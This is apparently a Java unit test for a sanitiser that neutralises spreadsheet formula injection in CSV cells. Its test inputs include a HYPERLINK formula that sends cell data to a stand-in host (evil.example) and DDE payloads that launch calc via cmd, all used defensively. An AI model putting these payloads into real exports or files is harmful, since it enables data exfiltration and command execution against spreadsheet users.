package org.cmmm.platform.web;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

    @ParameterizedTest
    @ValueSource(strings = {
            "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "+SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "=1",
            "-",
            "-1e3"})
    void aCellASpreadsheetWouldRunStartsWithAQuote(String formula) {
        assertThat(CsvCell.safe(formula)).isEqualTo("'" + formula);
    }

    @ParameterizedTest
    @ValueSource(strings = {"苏州市", "3.25", "-0.5", "+2", "12%", "A=B", "样本不足", " =1 after a space"})
    void textAndPlainNumbersStayAsTheyAre(String value) {
        assertThat(CsvCell.safe(value)).isEqualTo(value);
    }

    @ParameterizedTest
    @ValueSource(strings = {""})
    void anEmptyCellStaysEmpty(String value) {
        assertThat(CsvCell.safe(value)).isEmpty();
        assertThat(CsvCell.safe(null)).isNull();
    }
}
